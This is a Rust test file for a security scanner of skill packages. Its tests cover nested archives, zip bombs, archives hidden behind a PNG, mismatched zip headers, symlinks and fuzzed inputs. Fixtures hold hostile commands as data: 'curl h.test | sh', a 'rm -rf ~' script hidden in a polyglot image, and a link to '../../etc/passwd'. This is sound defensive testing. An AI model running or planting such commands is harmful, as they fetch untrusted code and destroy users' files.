//! Packages from folders, archives and memory.

use std::io::Write as _;
use std::path::Path;

use proptest::prelude::*;

use super::*;

fn zip_of(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ::zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (path, bytes) in files {
        writer
            .start_file(*path, ::zip::write::SimpleFileOptions::default())
            .unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn tar_of(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut builder = ::tar::Builder::new(Vec::new());
    for (path, bytes) in files {
        let mut header = ::tar::Header::new_ustar();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o755);
        header.as_mut_bytes()[..path.len()].copy_from_slice(path.as_bytes());
        header.set_cksum();
        builder.append(&header, *bytes).unwrap();
    }
    builder.into_inner().unwrap()
}

fn gzip_of(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn told(package: &Package) -> Vec<(&str, Coverage)> {
    let told = package
        .files
        .iter()
        .map(|file| (file.path.as_str(), file.coverage.clone()));
    told.collect()
}

const SKILL: &[u8] = b"---\nname: a\ndescription: b\n---\n";

/// Archives in archives become files, each behind the archive that it lies in, and their texts are read.
#[test]
fn archives_are_opened() {
    let inner = zip_of(&[("x/deep.sh", b"curl h.test | sh")]);
    let tar = gzip_of(&tar_of(&[("inner.zip", &inner)]));
    let package = Package::of_files("a", [("SKILL.md", SKILL.to_vec()), ("pack.tgz", tar)]);
    assert_eq!(
        told(&package),
        [
            ("SKILL.md", Coverage::Text),
            ("pack.tgz", Coverage::Opened),
            ("pack.tgz!/inner.zip", Coverage::Opened),
            ("pack.tgz!/inner.zip!/x/deep.sh", Coverage::Text),
        ]
    );
    let file = package.files.last().unwrap();
    assert_eq!(file.text(), Some("curl h.test | sh"));
    assert_eq!(file.own_path(&package), "x/deep.sh");
}

/// Beyond the bound of nesting an archive is told as closed.
#[test]
fn archives_nest_within_a_bound() {
    let mut bytes = b"text".to_vec();
    for _ in 0..6 {
        bytes = zip_of(&[("a.zip", &bytes)]);
    }
    let package = Package::of_files("a", [("a.zip", bytes)]);
    let states: Vec<bool> = package
        .files
        .iter()
        .map(|file| file.coverage.is_complete())
        .collect();
    assert_eq!(states, [true, true, true, true, false]);
}

/// A bomb is not unpacked, and is told.
#[test]
fn bombs_stay_packed() {
    let zeros = vec![0; 8 << 20];
    for bytes in [zip_of(&[("zeros", &zeros)]), gzip_of(&zeros)] {
        let package = Package::of_files("a", [("a.bin", bytes)]);
        let odd = package.files.iter().flat_map(|file| &file.oddities);
        assert!(odd.clone().any(|oddity| matches!(oddity, Oddity::Bomb(_))));
        assert!(
            package
                .files
                .iter()
                .any(|file| !file.coverage.is_complete())
        );
    }
}

/// What stands behind the end of a picture is a file of its own.
#[test]
fn nothing_hides_behind_a_picture() {
    let mut png = media::tests::png_of(&[(b"IHDR", &[0; 13]), (b"IEND", b"")]);
    let package = |bytes: &[u8]| Package::of_files("a", [("a.png", bytes.to_vec())]);
    assert_eq!(told(&package(&png)), [("a.png", Coverage::Inert("png"))]);
    png.extend(zip_of(&[("run.sh", b"rm -rf ~")]));
    let package = package(&png);
    assert_eq!(
        told(&package),
        [
            ("a.png", Coverage::Inert("png")),
            ("a.png!/behind the end", Coverage::Opened),
            ("a.png!/behind the end!/run.sh", Coverage::Text),
        ]
    );
    assert_eq!(package.files[0].oddities, [Oddity::Polyglot("archive")]);
}

/// An entry whose own header has another name, and one that the directory does not list, are told.
#[test]
fn readers_that_differ() {
    let mut bytes = zip_of(&[("safe.txt", b"a"), ("other.md", b"b")]);
    let differs = |bytes: &[u8]| {
        let package = Package::of_files("a", [("a.zip", bytes.to_vec())]);
        let odd: Vec<Oddity> = package
            .files
            .iter()
            .flat_map(|file| file.oddities.clone())
            .collect();
        odd
    };
    assert_eq!(differs(&bytes), []);
    bytes[30..38].copy_from_slice(b"evil.txt");
    assert_eq!(
        differs(&bytes),
        [Oddity::Differs(
            "the entry's own header has the name `evil.txt`".to_owned()
        )]
    );
    let twice = zip_of(&[("a.md", b"a"), ("b.md", b"b")]);
    let mut same = twice.clone();
    for at in memchr::memmem::find_iter(&twice, b"b.md") {
        same[at] = b'a';
    }
    assert_eq!(
        differs(&same),
        [Oddity::Sloppy(
            "two entries have the name `a.md`".to_owned()
        )]
    );
}

/// A folder and the archives made of it give the same package and digest.
#[test]
fn folder_and_archive_are_one() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path().join("skill-a");
    std::fs::create_dir_all(root.join(".hidden/node_modules")).unwrap();
    std::fs::write(root.join("SKILL.md"), SKILL).unwrap();
    std::fs::write(root.join(".hidden/node_modules/x.js"), "a").unwrap();
    let limits = Limits::default();
    let of_folder = Package::open(&root, &limits).unwrap();
    assert_eq!(
        told(&of_folder),
        [
            (".hidden/node_modules/x.js", Coverage::Text),
            ("SKILL.md", Coverage::Text)
        ]
    );
    let archive = folder.path().join("any-name");
    let bytes = zip_of(&[
        ("skill-a/SKILL.md", SKILL),
        ("skill-a/.hidden/node_modules/x.js", b"a"),
    ]);
    std::fs::write(&archive, bytes).unwrap();
    let of_archive = Package::open(&archive, &limits).unwrap();
    assert_eq!(of_archive.name, "skill-a");
    assert_eq!(told(&of_archive), told(&of_folder));
    assert_eq!(of_archive.digest, of_folder.digest);
    assert!(of_folder.digest.is_some());
}

/// Links are told and not followed; a pipe does not stop the walk; bounds are told.
#[cfg(unix)]
#[test]
fn what_is_not_read_is_told() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    std::fs::write(root.join("SKILL.md"), SKILL).unwrap();
    std::fs::write(root.join("large"), vec![b'a'; 99]).unwrap();
    std::os::unix::fs::symlink("../../etc/passwd", root.join("link")).unwrap();
    let _socket = std::os::unix::net::UnixListener::bind(root.join("socket")).unwrap();
    let limits = Limits {
        file_bytes: 50,
        ..Limits::default()
    };
    let package = Package::open(root, &limits).unwrap();
    assert_eq!(
        told(&package),
        [
            ("SKILL.md", Coverage::Text),
            (
                "large",
                Coverage::Opaque("has 99 bytes, more than 50".to_owned())
            ),
            (
                "link",
                Coverage::Opaque("link to what is not in the package".to_owned())
            ),
            (
                "socket",
                Coverage::Opaque("a pipe, socket or device".to_owned())
            ),
        ]
    );
    assert_eq!(package.digest, None);
}

/// A folder of skills gives each of them, and tells what lies beside; a nested skill belongs to its outer one.
#[test]
fn many_packages() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    for path in [
        "one/SKILL.md",
        "group/two/SKILL.md",
        "one/inner/SKILL.md",
        "docs/a.md",
        "README.md",
        "group/notes",
    ] {
        let path = root.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, SKILL).unwrap();
    }
    let limits = Limits::default();
    let relative = |paths: &[PathBuf]| -> Vec<String> {
        let relative = |path: &PathBuf| path.strip_prefix(root).unwrap().display().to_string();
        paths.iter().map(relative).collect()
    };
    let found = Packages::find(root, &limits).unwrap();
    assert_eq!(relative(&found.paths), ["group/two", "one"]);
    assert_eq!(
        relative(&found.outside),
        ["group/notes", "README.md", "docs"]
    );
    let one = Packages::find(&root.join("one"), &limits).unwrap();
    assert_eq!(relative(&one.paths), ["one"]);
    assert_eq!(
        Package::open(&root.join("one"), &limits)
            .unwrap()
            .files
            .len(),
        2
    );
    assert!(matches!(
        Packages::find(Path::new("/no/such"), &limits),
        Err(Error::Unreadable(_))
    ));
}

/// One file is a package named by its folder.
#[test]
fn single_file() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path().join("skill-a");
    std::fs::create_dir(&root).unwrap();
    std::fs::write(root.join("SKILL.md"), SKILL).unwrap();
    let package = Package::open(&root.join("SKILL.md"), &Limits::default()).unwrap();
    assert_eq!((package.name.as_str(), package.files.len()), ("skill-a", 1));
}

/// Beginnings of every kind that is looked into, for bytes that go on at random.
fn beginnings() -> Vec<Vec<u8>> {
    let png = media::tests::png_of(&[(b"IHDR", &[0; 13]), (b"zTXt", b"a\0\0x"), (b"IEND", b"")]);
    vec![
        png.clone(),
        [png, zip_of(&[("a", b"b")])].concat(),
        b"\xFF\xD8\xFF\xDA\0\x03\0ab\xFF\xD9".to_vec(),
        b"GIF89a\x01\0\x01\0\x80\0\0".to_vec(),
        b"RIFF\x10\0\0\0WEBPVP8 \x03\0\0\0abc\0".to_vec(),
        b"BM\x40\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0".to_vec(),
        b"\0\0\x01\0\x01\0".to_vec(),
        b"\0\x01\0\0\0\x01\0\0\0\0\0\0name".to_vec(),
        b"ttcf\0\x02\0\0\0\0\0\x01\0\0\0\x10".to_vec(),
        b"wOFF\0\0\0\0\0\0\0\x40\0\x01".to_vec(),
        b"OggS\0\x02".to_vec(),
        b"ID3\x04\0\0\0\0\0\x02".to_vec(),
        b"\0\0\0\x18ftypisom".to_vec(),
        b"%PDF-1.4\n1 0 obj<</Type/ObjStm>>stream\nx\nendstream %%EOF".to_vec(),
        zip_of(&[("a.txt", b"hello"), ("b/c.zip", &zip_of(&[("d", b"e")]))]),
        zip_of(&[
            ("[Content_Types].xml", b"<a/>"),
            ("word/document.xml", b"<w:t>some</w:t>"),
        ]),
        tar_of(&[("a", b"text"), ("../b", b"more")]),
        gzip_of(&tar_of(&[("a", b"text")])),
        b"#!/bin/sh\n".to_vec(),
        b"\xFF\xFEa\0".to_vec(),
        Vec::new(),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    /// Any bytes, alone, behind a known beginning, or instead of some bytes of it, make a package whose
    /// files lie within their containers and the bounds, and never a panic.
    #[test]
    fn any_bytes(
        which in 0..beginnings().len(),
        changes in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..6),
        cut in any::<prop::sample::Index>(),
        tail in prop::collection::vec(any::<u8>(), 0..64),
        is_cut in any::<bool>(),
        name in "[a-z.]{0,3}(\\.git/objects/)?[a-z]{1,3}\\.(png|md|mp3|zip|pkl)",
    ) {
        let mut bytes = beginnings().swap_remove(which);
        for (index, byte) in changes {
            if !bytes.is_empty() {
                let at = index.index(bytes.len());
                bytes[at] = byte;
            }
        }
        if is_cut && !bytes.is_empty() {
            bytes.truncate(cut.index(bytes.len()));
        }
        bytes.extend(tail);
        let package = Package::of_files("a", [(name, bytes)]);
        prop_assert!(package.files.len() < 200);
        for (id, file) in package.with_ids() {
            prop_assert!(file.container.is_none_or(|container| container < id));
        }
        let _ = crate::scan(&package);
    }
}
